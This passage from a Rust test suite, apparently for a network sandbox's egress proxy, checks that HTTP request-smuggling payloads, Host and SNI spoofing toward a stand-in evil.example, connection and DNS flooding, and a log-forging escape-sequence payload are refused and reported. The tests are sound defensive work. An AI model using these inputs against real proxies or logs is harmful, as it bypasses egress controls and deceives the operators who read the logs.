    assert_eq!(p.code, 0, "{p:?}");
    assert!(leftover_cgroups(&id).is_empty());
    assert!(!run_dir.path().join("sessions").join(&id).exists());
    // No process on the host is in the sandbox's network namespace any more (it is gone).
    let in_netns = std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter(|e| std::fs::read_link(e.path().join("ns/net")).is_ok_and(|l| l == netns))
        .count();
    assert_eq!(in_netns, 0, "processes left in {netns:?}");
}

/// Sends each of `payloads` (name, bytes) on its own connection to `addr`:`port` from inside a
/// filtered sandbox with `extra` flags, closes the sending side and prints one line per
/// payload: `NAME ok REPR-OF-THE-REPLY` or `NAME error EXCEPTION`.
fn send_raw(w: &World, extra: &[&str], addr: &str, port: u16, payloads: &[(&str, &[u8])]) -> Run {
    let dir = w.dir.path().join(format!("payloads{}", payloads.len()));
    std::fs::create_dir_all(&dir).unwrap();
    let mut paths = Vec::new();
    for (name, bytes) in payloads {
        std::fs::write(dir.join(name), bytes).unwrap();
        paths.push(format!(
            "/world/{}/{name}",
            dir.file_name().unwrap().to_str().unwrap()
        ));
    }
    std::fs::write(
        w.dir.path().join("send.py"),
        r#"
import socket, sys
addr, port = sys.argv[1], int(sys.argv[2])
for path in sys.argv[3:]:
    name = path.rsplit("/", 1)[-1]
    try:
        s = socket.create_connection((addr, port), timeout=20)
        s.sendall(open(path, "rb").read())
        s.shutdown(socket.SHUT_WR)
        got = b""
        while True:
            b = s.recv(65536)
            if not b:
                break
            got += b
        print(name, "ok", repr(got), flush=True)
    except OSError as e:
        print(name, "error", type(e).__name__, flush=True)
"#,
    )
    .unwrap();
    let script = format!(
        "getent hosts cdn.allowed.example >/dev/null; python3 /world/send.py {addr} {port} {}",
        paths.join(" ")
    );
    w.sh(extra, &script)
}

/// Finding 2: what a lenient server reads differently from the proxy's check (bare LF line
/// ends, obs-fold, a second Host, whitespace before the colon, a second request, CONNECT)
/// never reaches the server: the connection is refused, and said why.
#[test]
fn egress_http_smuggling_is_refused() {
    require_root!();
    let w = World::start();
    let payloads: &[(&str, &[u8])] = &[
        ("good", b"GET /whoami HTTP/1.1\r\nHost: cdn.allowed.example\r\n\r\n"),
        (
            "lf_second_request",
            b"GET /whoami HTTP/1.1\r\nHost: cdn.allowed.example\r\nX: a\n\nGET /whoami HTTP/1.1\nHost: evil.example\n\n\r\n\r\n",
        ),
        (
            "lf_second_host",
            b"GET /whoami HTTP/1.1\r\nX: a\nHost: evil.example\r\nHost: cdn.allowed.example\r\n\r\n",
        ),
        (
            "obs_fold",
            b"GET /whoami HTTP/1.1\r\nHost: cdn.allowed.example\r\nX: a\r\n Host: evil.example\r\n\r\n",
        ),
        (
            "space_before_colon",
            b"GET /whoami HTTP/1.1\r\nHost : evil.example\r\nX: cdn.allowed.example\r\n\r\n",
        ),
        (
            "pipelined",
            b"GET /whoami HTTP/1.1\r\nHost: cdn.allowed.example\r\n\r\nGET /whoami HTTP/1.1\r\nHost: evil.example\r\n\r\n",
        ),
        (
            "connect",
            b"CONNECT evil.example:80 HTTP/1.1\r\nHost: cdn.allowed.example\r\n\r\n",
        ),
    ];
    let r = send_raw(
        &w,
        &["--allow", "cdn.allowed.example", "--log-network"],
        CDN4,
        80,
        payloads,
    );
    assert_eq!(r.code, 0, "{r:?}");
    let good = line(&r.stdout, "good ");
    assert!(good.contains("host=cdn.allowed.example"), "{good}");
    // The server was asked to close after the checked request.
    assert!(good.contains("HTTP/1.1 200"), "{good}");
    for (name, _) in &payloads[1..] {
        let l = line(&r.stdout, &format!("{name} "));
        assert!(l.starts_with(&format!("{name} error")), "{l}");
        assert!(!l.contains("evil"), "{l}");
    }
    let refused: Vec<&str> = r
        .stderr
        .lines()
        .filter(|l| l.starts_with(&format!("nsbox: connection refused {CDN4}:80")))
        .collect();
    assert_eq!(refused.len(), payloads.len() - 1, "{}", r.stderr);
    for why in [
        "ends in a bare LF",
        "obs-fold",
        "whitespace before a header's colon",
        "more than one HTTP request on a connection",
        "CONNECT is not forwarded",
    ] {
        assert!(
            refused.iter().any(|l| l.contains(why)),
            "{why}: {}",
            r.stderr
        );
    }
}

/// Finding 3: the SNI and Host checks hold on every port, not only 443 and 80; raw TCP to an
/// address reached by name needs a `tcp:` rule, and a connection that never speaks is decided
/// after a bounded wait.
#[test]
fn egress_sni_and_host_are_checked_on_every_port() {
    require_root!();
    let w = World::start();
    let r = w.sh(
        &[
            "--allow",
            "cdn.allowed.example",
            "--allow",
            "tcp.allowed.example",
            "--allow",
            "tcp:tcp.allowed.example:5433",
            "--log-network",
        ],
        &format!(
            "getent ahostsv4 cdn.allowed.example >/dev/null; getent ahostsv4 tcp.allowed.example >/dev/null; \
             echo http8080 $(curl -sS -m 5 http://cdn.allowed.example:8080/whoami); \
             curl -sS -m 5 -H 'Host: evil.example' http://cdn.allowed.example:8080/whoami; echo host8080=$?; \
             echo tls8443 $(curl -sS -m 5 --cacert /world/ca.pem https://cdn.allowed.example:8443/whoami); \
             curl -sS -m 5 --cacert /world/ca.pem --resolve evil.example:8443:{CDN4} \
               https://evil.example:8443/whoami; echo sni8443=$?; \
             echo raw $({PROBE} tcp {TCP4}:5432 hello); \
             echo rawok $({PROBE} tcp {TCP4}:5433 hello); \
             echo silent $(python3 -c \"
import socket
s = socket.create_connection(('{TCP4}', 5432))
s.settimeout(60)
try:
    print(repr(s.recv(10)))
except OSError as e:
    print(type(e).__name__)\")"
        ),
    );
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(
        line(&r.stdout, "http8080"),
        "http8080 host=cdn.allowed.example:8080"
    );
    assert_eq!(
        line(&r.stdout, "tls8443"),
        "tls8443 host=cdn.allowed.example:8443"
    );
    assert_ne!(line(&r.stdout, "host8080="), "host8080=0", "{r:?}");
    assert_ne!(line(&r.stdout, "sni8443="), "sni8443=0", "{r:?}");
    assert_eq!(line(&r.stdout, "raw "), "raw error ECONNRESET", "{r:?}");
    assert_eq!(line(&r.stdout, "rawok"), "rawok ok hello", "{r:?}");
    assert_eq!(line(&r.stdout, "silent"), "silent ConnectionResetError");
    for expected in [
        format!("connection refused {CDN4}:8080 evil.example (HTTP Host: evil.example is not on the allowlist)"),
        format!("connection refused {CDN4}:8443 evil.example (TLS SNI: evil.example is not on the allowlist)"),
        format!("connection refused {TCP4}:5432 (the client closed before sending a request (raw TCP to an address reached by name needs a tcp: rule))"),
        format!("connection refused {TCP4}:5432 (no TLS ClientHello or HTTP request in 10s (raw TCP to an address reached by name needs a tcp: rule))"),
        format!("connection allowed {TCP4}:5433 tcp.allowed.example (allowed by 'tcp:tcp.allowed.example:5433')"),
    ] {
        assert!(r.stderr.contains(&expected), "{expected}\n{}", r.stderr);
    }
}

/// Finding 6 (the proxy's part): many connections to an allowed server that never reads hold
/// at most the per-sandbox cap of connections (set with NSBOX_EGRESS_MAX_CONNECTIONS), each
/// with bounded buffers; the rest are refused and reported.
#[test]
fn egress_proxy_memory_is_bounded_per_sandbox() {
    require_root!();
    let w = World::start();
    const CAP: usize = 40;
    // proxy::budget(CAP): 128 KiB per connection the cap allows and 32 MiB.
    const BUDGET: u64 = CAP as u64 * (128 << 10) + (32 << 20);
    let tries = CAP + 20;
    let flags = w.filtered_flags();
    let mut args: Vec<&str> = vec!["exec", "-i"];
    args.extend(flags.iter().map(String::as_str));
    let script = format!(
        "python3 -c \"
import socket, sys
held, failed = [], 0
for i in range({tries}):
    try:
        s = socket.create_connection(('{TCP4}', {SINK_PORT}), timeout=10)
        s.setblocking(False)
        sent = 0
        try:
            while sent < 256 * 1024:
                sent += s.send(b'x' * 65536)
        except OSError:
            pass
        held.append(s)
    except OSError:
        failed += 1
print('opened', len(held) + failed, flush=True)
sys.stdin.readline()
\""
    );
    let sink = format!("{TCP4}:{SINK_PORT}");
    args.extend_from_slice(&["--allow", &sink, "--log-network", "--", "sh", "-c", &script]);
    let mut child = w
        .nsbox_cmd(&args)
        .env("NSBOX_EGRESS_MAX_CONNECTIONS", CAP.to_string())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut out = std::io::BufReader::new(child.stdout.take().unwrap());
    // stderr read as it comes: the refusals are counted before the client lets go (under load
    // the proxy may accept the last connections late, and a client that closed them first
    // would leave them unreported).
    let stderr_text = std::sync::Arc::new(std::sync::Mutex::new(String::new()));
    let reader = {
        let text = stderr_text.clone();
        let mut err = std::io::BufReader::new(child.stderr.take().unwrap());
        std::thread::spawn(move || {
            let mut line = String::new();
            while err.read_line(&mut line).is_ok_and(|n| n > 0) {
                text.lock().unwrap().push_str(&line);
                line.clear();
            }
        })
    };
    let refusals = || {
        stderr_text
            .lock()
            .unwrap()
            .lines()
            .filter(|l| l.contains("too many connections at once (at most 40 per sandbox)"))
            .count()
    };
    let mut first = String::new();
    out.read_line(&mut first).unwrap();
    assert_eq!(first.trim(), format!("opened {tries}"));
    assert!(
        eventually(60.0, || w.sink_accepted() >= CAP),
        "{}",
        w.sink_accepted()
    );
    assert!(
        eventually(60.0, || refusals() >= tries - CAP),
        "{} refusals reported",
        refusals()
    );
    // What the proxy holds towards the server: the connections and their send buffers.
    let ss = w.in_host(&[
        "ss",
        "-Htnm",
        "state",
        "established",
        "dport",
        "=",
        &format!(":{SINK_PORT}"),
    ]);
    let ss = String::from_utf8_lossy(&ss.stdout).into_owned();
    let field = |l: &str, key: &str| -> u64 {
        let skmem = l.split("skmem:(").nth(1).unwrap_or_default();
        skmem
            .trim_end_matches(')')
            .split(',')
            .find_map(|f| {
                f.strip_prefix(key)
                    .filter(|v| v.bytes().all(|b| b.is_ascii_digit()))
            })
            .and_then(|v| v.parse().ok())
            .unwrap_or_else(|| panic!("no {key} in {l}"))
    };
    let sockets: Vec<&str> = ss.lines().filter(|l| l.contains("skmem")).collect();
    assert_eq!(sockets.len(), CAP, "{ss}");
    let buffers: u64 = sockets
        .iter()
        .map(|l| field(l, "tb") + field(l, "rb"))
        .sum();
    let queued: u64 = sockets.iter().map(|l| field(l, "w")).sum();
    assert!(buffers <= BUDGET, "socket buffers {buffers}");
    assert!(queued <= BUDGET, "queued {queued}");
    child.stdin.take().unwrap().write_all(b"\n").unwrap();
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut out, &mut rest).unwrap();
    let status = child.wait().unwrap();
    reader.join().unwrap();
    let stderr = stderr_text.lock().unwrap().clone();
    assert!(status.success(), "{stderr}");
    assert_eq!(w.sink_accepted(), CAP);
    assert_eq!(refusals(), tries - CAP, "{stderr}");
}

/// Finding 7: distinct names without end under an allowed wildcard meet a bound on what the
/// resolver keeps (per address here; per sandbox in the unit test), refused with a reason,
/// while names already known still answer.
#[test]
fn egress_resolver_bookkeeping_is_bounded() {
    require_root!();
    let w = World::start();
    const PER_ADDRESS: usize = 256; // egress::MAX_NAMES_PER_ADDR
    let tries = PER_ADDRESS + 44;
    let r = w.sh(
        &["--allow", "*.allowed.example", "--log-network"],
        &format!(
            "python3 -c \"
import socket, struct, collections
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(10)
def ask(i, name):
    q = struct.pack('>HHHHHH', i, 0x0100, 1, 0, 0, 0)
    q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\\\0'
    q += struct.pack('>HH', 1, 1)
    s.sendto(q, ('127.0.0.53', 53))
    while True:
        r = s.recv(4096)
        if struct.unpack('>H', r[:2])[0] == i:
            return r[3] & 15, r
counts = collections.Counter()
last = b''
for i in range({tries}):
    rcode, r = ask(i + 1, 'n%d.many.allowed.example' % i)
    counts[rcode] += 1
    if rcode:
        last = r
print('noerror', counts[0])
print('refused', counts[5])
print('again', ask(60000, 'n0.many.allowed.example')[0])
\""
        ),
    );
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(
        line(&r.stdout, "noerror"),
        format!("noerror {PER_ADDRESS}"),
        "{r:?}"
    );
    assert_eq!(
        line(&r.stdout, "refused"),
        format!("refused {}", tries - PER_ADDRESS)
    );
    let why = "203.0.113.50 is the address of 256 names already";
    assert_eq!(
        r.stderr.lines().filter(|l| l.contains(why)).count(),
        tries - PER_ADDRESS,
        "{}",
        r.stderr
    );
    assert_eq!(line(&r.stdout, "again"), "again 0");
}

/// Finding 9: bytes the workload chose (here a Host with ESC and CR, and a bare LF) reach the
/// `--log-network` lines and the JSON events escaped: one line per refusal, nothing forged,
/// no escape sequence.
#[test]
fn egress_network_log_injection_is_escaped() {
    require_root!();
    let w = World::start();
    let payloads: &[(&str, &[u8])] = &[(
        "inject",
        b"GET / HTTP/1.1\r\nHost: evil.example\x1b[2J\rnsbox: connection allowed (forged)\n\r\n\r\n",
    )];
    let r = send_raw(
        &w,
        &["--allow", "cdn.allowed.example", "--log-network"],
        CDN4,
        80,
        payloads,
    );
    assert!(
        line(&r.stdout, "inject").starts_with("inject error"),
        "{r:?}"
    );
    assert!(!r.stderr.contains('\x1b'), "{:?}", r.stderr);
    assert!(!r.stderr.contains('\r'), "{:?}", r.stderr);
    let forged: Vec<&str> = r.stderr.lines().filter(|l| l.contains("forged")).collect();
    assert_eq!(forged.len(), 1, "{}", r.stderr);
    assert!(
        forged[0].starts_with(&format!("nsbox: connection refused {CDN4}:80 (")),
        "{}",
        forged[0]
    );
    assert!(
        forged[0].contains(r"evil.example\x1b[2J\rnsbox: connection allowed (forged)"),
        "{}",
        forged[0]
    );
    let r = send_raw(
        &w,
        &["--allow", "cdn.allowed.example", "--json"],
        CDN4,
        80,
        payloads,
    );
    assert!(!r.stdout.contains('\x1b'), "{:?}", r.stdout);
    let events = events(&r.stdout);
    let refused: Vec<_> = events
        .iter()
        .filter(|e| e["type"] == "connection" && e["decision"] == "refused")
        .collect();
    assert_eq!(refused.len(), 1, "{events:#?}");
    assert!(
        refused[0]["reason"]
            .as_str()
            .unwrap()
            .contains(r"\x1b[2J\rnsbox: connection allowed (forged)"),
        "{}",
        refused[0]
    );
}

/// What the kernel's rules reject on their own (a connection to an address no allowed name
/// resolved to, a UDP datagram) is reported too, not only what the proxy refuses.
#[test]
fn egress_rejected_direct_connections_and_datagrams_are_reported() {
    require_root!();
    let w = World::start();
    let r = w.sh(
        &["--allow", "web.allowed.example", "--log-network"],
        &format!(
            "echo tcp $({PROBE} tcp {OTHER4}:80); echo udp $({PROBE} udp {WEB4}:9999); \
             echo udp6 $({PROBE} udp [{WEB6}]:9999)"
        ),
    );
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(line(&r.stdout, "tcp"), "tcp error ECONNREFUSED");
    assert_eq!(line(&r.stdout, "udp "), "udp error EPERM");
    for expected in [
        format!("nsbox: connection refused {OTHER4}:80 (no allowed name of this sandbox resolved to {OTHER4}, and no --allow range covers it (rejected by the sandbox's rules))"),
        format!("nsbox: udp refused {WEB4}:9999 (only TCP leaves a filtered sandbox"),
        format!("nsbox: udp refused [{WEB6}]:9999 (only TCP leaves a filtered sandbox"),
    ] {
        assert!(r.stderr.contains(&expected), "{expected}\n{}", r.stderr);
    }
    let r = w.sh(&["--json"], &format!("{PROBE} udp {WEB4}:443 >/dev/null"));
    let events = events(&r.stdout);
    assert!(
        events.iter().any(|e| e["type"] == "packet"
            && e["protocol"] == "udp"
            && e["address"] == WEB4
            && e["port"] == 443
            && e["decision"] == "refused"),
        "{events:#?}"
    );
}
